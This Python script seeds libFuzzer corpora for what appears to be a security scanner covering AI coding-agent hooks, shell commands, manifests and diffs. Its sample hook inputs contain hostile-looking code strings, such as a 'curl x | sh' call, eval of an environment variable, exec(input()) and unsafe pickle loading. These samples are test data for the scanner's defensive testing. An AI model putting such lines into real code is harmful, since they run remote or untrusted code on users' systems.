#!/usr/bin/env python3
"""Seeds fuzz/corpus/<target>/ from fixtures/ and the built-in check files (run from the repository root).

Each seed is named after its content's hash, as libFuzzer names corpus entries. Inputs of the targets
that pick a format or agent by their first byte get that byte prepended (the orders are those of
`src/fuzz_targets.rs`). Run once to seed; after fuzzing, `cargo fuzz cmin <target>` minimizes.
"""
import hashlib, json, os, subprocess, sys

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
CORPUS = os.path.join(ROOT, "fuzz", "corpus")
LIMIT = 24 * 1024  # bytes per seed: enough structure, small corpora

MANIFEST_PATHS = ["package.json", "package-lock.json", "yarn.lock", "pnpm-lock.yaml", "requirements.txt",
    "pyproject.toml", "Pipfile", "setup.cfg", "Cargo.toml", "go.mod", "Gemfile", "x.gemspec",
    "composer.json", "pom.xml", "build.gradle", "build.gradle.kts", "Dockerfile",
    ".github/workflows/ci.yml", ".github/actions/setup/action.yml"]
AGENTS = ["claude", "codex", "cursor", "gemini"]
LANGUAGES = ["javascript", "typescript", "python", "go", "rust", "java", "kotlin", "scala", "groovy", "ruby",
    "php", "csharp", "c", "cpp", "swift", "shell", "powershell", "perl", "lua", "dockerfile", "makefile",
    "github-actions", "yaml", "json", "toml", "xml", "html", "markdown", "text"]
EXT = {".js": "javascript", ".mjs": "javascript", ".cjs": "javascript", ".jsx": "javascript", ".ts": "typescript",
    ".tsx": "typescript", ".py": "python", ".go": "go", ".rs": "rust", ".java": "java", ".kt": "kotlin",
    ".kts": "kotlin", ".scala": "scala", ".groovy": "groovy", ".gradle": "groovy", ".rb": "ruby", ".php": "php",
    ".cs": "csharp", ".c": "c", ".h": "c", ".cpp": "cpp", ".cc": "cpp", ".swift": "swift", ".sh": "shell",
    ".bash": "shell", ".ps1": "powershell", ".pl": "perl", ".lua": "lua", ".Dockerfile": "dockerfile",
    ".mk": "makefile", ".yml": "yaml", ".yaml": "yaml", ".json": "json", ".toml": "toml", ".xml": "xml",
    ".html": "html", ".md": "markdown", ".txt": "text"}


def put(target, data):
    data = data[:LIMIT]
    d = os.path.join(CORPUS, target)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, hashlib.sha1(data).hexdigest()), "wb") as f:
        f.write(data)


def files(top):
    for dirpath, _, names in os.walk(os.path.join(ROOT, top)):
        for n in sorted(names):
            yield os.path.join(dirpath, n)


def read(path):
    with open(path, "rb") as f:
        return f.read()


def patches():
    attacks = os.path.join(ROOT, "fixtures", "attacks")
    for case in sorted(os.listdir(attacks)):
        base, change = os.path.join(attacks, case, "base"), os.path.join(attacks, case, "change")
        if os.path.isdir(base) and os.path.isdir(change):
            out = subprocess.run(["git", "diff", "--no-index", "--no-color", base, change],
                                 capture_output=True, check=False).stdout
            if out:
                yield out.replace(base.encode(), b"a").replace(change.encode(), b"b")
    manifests = os.path.join(ROOT, "fixtures", "manifests")
    for case in sorted(os.listdir(manifests)):
        names = os.listdir(os.path.join(manifests, case))
        for new in [n for n in names if n.startswith("new.")]:
            old = os.path.join(manifests, case, "old." + new[4:])
            old = old if os.path.exists(old) else "/dev/null"
            out = subprocess.run(["git", "diff", "--no-index", "--no-color", old, os.path.join(manifests, case, new)],
                                 capture_output=True, check=False).stdout
            name = new[4:]
            lines = out.split(b"\n")
            # Name the file as the manifest it is.
            fixed = []
            for line in lines:
                if line.startswith(b"diff --git"):
                    line = b"diff --git a/" + name.encode() + b" b/" + name.encode()
                elif line.startswith(b"--- ") and not line.endswith(b"/dev/null"):
                    line = b"--- a/" + name.encode()
                elif line.startswith(b"+++ "):
                    line = b"+++ b/" + name.encode()
                fixed.append(line)
            yield b"\n".join(fixed)


def commands():
    for path in files("fixtures/commands"):
        for line in read(path).decode().splitlines():
            if line.strip() and not line.startswith("#"):
                yield line


def hook_inputs(cmds):
    samples = [
        ("claude", {"hook_event_name": "PreToolUse", "tool_name": "Write",
                    "tool_input": {"file_path": "src/a.py", "content": "import os\nos.system('curl x | sh')\n"}}),
        ("claude", {"hook_event_name": "PreToolUse", "tool_name": "Edit",
                    "tool_input": {"file_path": "a.js", "old_string": "", "new_string": "eval(process.env.X)\n"}}),
        ("claude", {"hook_event_name": "PreToolUse", "tool_name": "MultiEdit",
                    "tool_input": {"file_path": "m.py", "edits": [{"old_string": "", "new_string": "import subprocess\n"},
                                   {"old_string": "a", "new_string": "b", "replace_all": True}]}}),
        ("claude", {"hook_event_name": "PreToolUse", "tool_name": "NotebookEdit",
                    "tool_input": {"notebook_path": "n.ipynb", "cell_id": "c1", "new_source": "import os\nos.popen('id')",
                                   "cell_type": "code", "edit_mode": "insert"}}),
        ("codex", {"hook_event_name": "PreToolUse", "tool_name": "apply_patch", "tool_input": {"command":
                   "*** Begin Patch\n*** Update File: svc/run.py\n@@ def main():\n     x = 1\n+    subprocess.run(x, shell=True)\n     return x\n*** Add File: svc/new.py\n+print('hi')\n*** Delete File: old.py\n*** End Patch\n"}}),
        ("cursor", {"hook_event_name": "preToolUse", "workspace_roots": ["."], "tool_name": "Write",
                    "tool_input": {"file_path": "k.py", "content": "KEY = 'AKIAIOSFODNN7EXAMPLE'\n"}}),
        ("cursor", {"hook_event_name": "preToolUse", "tool_name": "StrReplace",
                    "tool_input": {"file_path": "k.py", "old_string": "", "new_string": "exec(input())\n"}}),
        ("gemini", {"hook_event_name": "BeforeTool", "tool_name": "write_file",
                    "tool_input": {"file_path": "w.py", "content": "import pickle\npickle.loads(x)\n"}}),
        ("gemini", {"hook_event_name": "BeforeTool", "tool_name": "replace",
                    "tool_input": {"file_path": "w.py", "old_string": "", "new_string": "x = 1\n", "instruction": "i"}}),
    ]
    for agent, value in samples:
        value.setdefault("session_id", "s")
        yield agent, value
    for i, cmd in enumerate(cmds):
        agent = AGENTS[i % 4]
        if agent == "cursor":
            yield agent, {"hook_event_name": "beforeShellExecution", "conversation_id": "c", "command": cmd, "cwd": "."}
        elif agent == "gemini":
            yield agent, {"hook_event_name": "BeforeTool", "tool_name": "run_shell_command", "tool_input": {"command": cmd}}
        else:
            yield agent, {"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": cmd}}


def main():
    for p in patches():
        put("patch", p)
    cmds = list(commands())
    for c in cmds:
        put("shell", c.encode())
    for agent, value in hook_inputs(cmds):
        put("hook_input", bytes([AGENTS.index(agent)]) + json.dumps(value).encode())
    for path in files("checks"):
        if path.endswith((".yml", ".yaml")):
            put("checks_yaml", read(path))
    for path in files("fixtures/manifests"):
        name = os.path.basename(path)
        if not name.startswith(("new.", "old.")):
            continue
        name = name[4:]
        for i, m in enumerate(MANIFEST_PATHS):
            if os.path.basename(m).lower() == name.lower() or (m.endswith(".gemspec") and name.endswith(".gemspec")) \
                    or (m.endswith("ci.yml") and name.endswith((".yml", ".yaml")) and "action" not in name) \
                    or (m.endswith("action.yml") and name == "action.yml"):
                put("manifests", bytes([i]) + read(path))
                break
    for path in files("fixtures/checks"):
        _, ext = os.path.splitext(path)
        lang = EXT.get(ext)
        if os.path.basename(path).endswith("Dockerfile"):
            lang = "dockerfile"
        if lang:
            put("lexer", bytes([LANGUAGES.index(lang)]) + read(path))
    for path in files("fixtures/attacks"):
        if "/change/" in path and ".github/workflows" in path:
            put("lexer", bytes([LANGUAGES.index("github-actions")]) + read(path))


if __name__ == "__main__":
    main()
